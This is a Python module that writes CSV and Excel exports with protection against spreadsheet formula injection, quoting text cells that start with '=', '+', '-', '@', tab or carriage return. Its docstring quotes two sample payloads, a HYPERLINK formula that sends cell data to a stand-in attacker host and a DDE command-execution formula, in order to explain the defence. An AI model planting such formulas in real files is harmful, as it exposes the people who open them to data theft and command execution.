"""Tables written for people to open in Excel: CSV and .xlsx files whose cells are inert.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("http://evil.example/?"&A1, "点击")``, ``=cmd|' /C calc'!A0``), and Excel also
reads one after a leading tab or carriage return. Cells hold text from the user's data (village
names, the values a validation problem quotes), so every table the toolkit writes for people
goes through :func:`write_csv` or :func:`write_xlsx`, which neutralise such text cells as the
OWASP *CSV Injection* guidance recommends: a single quote in front (``'=HYPERLINK(…)``), which
the spreadsheet shows as text and does not evaluate.

Only text is touched: numbers (``-3.5`` in a numeric column) stay numbers, and a text cell that
is a plain number (``-3``, ``+1.5e3``: what a problem row quotes from the file) is left as it
is, since a spreadsheet reads it as that number and nothing else. Headers are text too.

Used by ``hemei validate --csv`` (:meth:`hemei_tools.inputs.problems.ValidationReport.write_csv`)
and ``hemei select --csv``. The demo writer (:mod:`hemei_tools.demo.write`) writes *input* data
files the toolkit reads back, not exports, and is not neutralised.
"""

from __future__ import annotations

import re
from pathlib import Path

from hemei_tools.paths import write_atomic_with

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: The quote put in front of such a cell.
QUOTE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def inert_text(value):
    """``value`` with a quote in front when it is text a spreadsheet would run as a formula.

    Anything that is not a ``str`` (numbers, missing values, dates) is returned unchanged, and
    so is text that is a plain number (``-3``).

    Examples
    --------
    >>> inert_text("=1+1"), inert_text("@SUM(A1)"), inert_text("-3"), inert_text(-3), inert_text("横山村")
    ("'=1+1", "'@SUM(A1)", '-3', -3, '横山村')
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return QUOTE + value
    return value


def inert_frame(frame):
    """A copy of ``frame`` (a pandas DataFrame) with every text cell and header passed through
    :func:`inert_text`; numeric, boolean and date columns are kept as they are."""
    out = frame.copy()
    for i in range(out.shape[1]):
        col = out.iloc[:, i]
        if col.dtype.kind not in "biufcmM":  # object, string and categorical columns
            out.isetitem(i, col.astype(object).map(inert_text))
    out.columns = [inert_text(str(c)) for c in out.columns]
    return out


def write_csv(frame, path: str | Path) -> Path:
    """Write ``frame`` as CSV for Excel (UTF-8 with BOM, no index, CRLF line ends), text cells
    inert (:func:`inert_frame`), atomically (:func:`hemei_tools.paths.write_atomic_with`).

    With CRLF as the line end, a cell holding a carriage return or a line feed is quoted, so it
    cannot split its row."""
    safe = inert_frame(frame)
    return write_atomic_with(path, lambda tmp: safe.to_csv(tmp, index=False, encoding="utf-8-sig",
                                                           lineterminator="\r\n"))


def _cell(value):
    """A value openpyxl writes as a plain cell: text inert, without the control characters a
    workbook cannot hold (shown as U+FFFD); numpy scalars as Python numbers; timestamps as
    datetimes."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("\ufffd", inert_text(value))
    if hasattr(value, "to_pydatetime"):
        return value.to_pydatetime()
    if hasattr(value, "item"):
        return value.item()
    return value


def write_xlsx(frame, path: str | Path, sheet: str = "Sheet1") -> Path:
    """Write ``frame`` as one sheet of an .xlsx workbook, text cells inert, atomically.

    openpyxl stores any string that starts with ``=`` as a formula, so every text cell goes
    through :func:`inert_text` first and is written as a string cell; numbers stay numbers.
    """
    from openpyxl import Workbook

    def write(tmp: str) -> None:
        wb = Workbook(write_only=True)
        ws = wb.create_sheet(title=sheet[:31])
        ws.append([_cell(str(c)) for c in frame.columns])
        cells = frame.astype(object).where(frame.notna(), None)  # missing → empty cell
        for row in cells.itertuples(index=False, name=None):
            ws.append([_cell(v) for v in row])
        wb.save(tmp)

    return write_atomic_with(path, write)
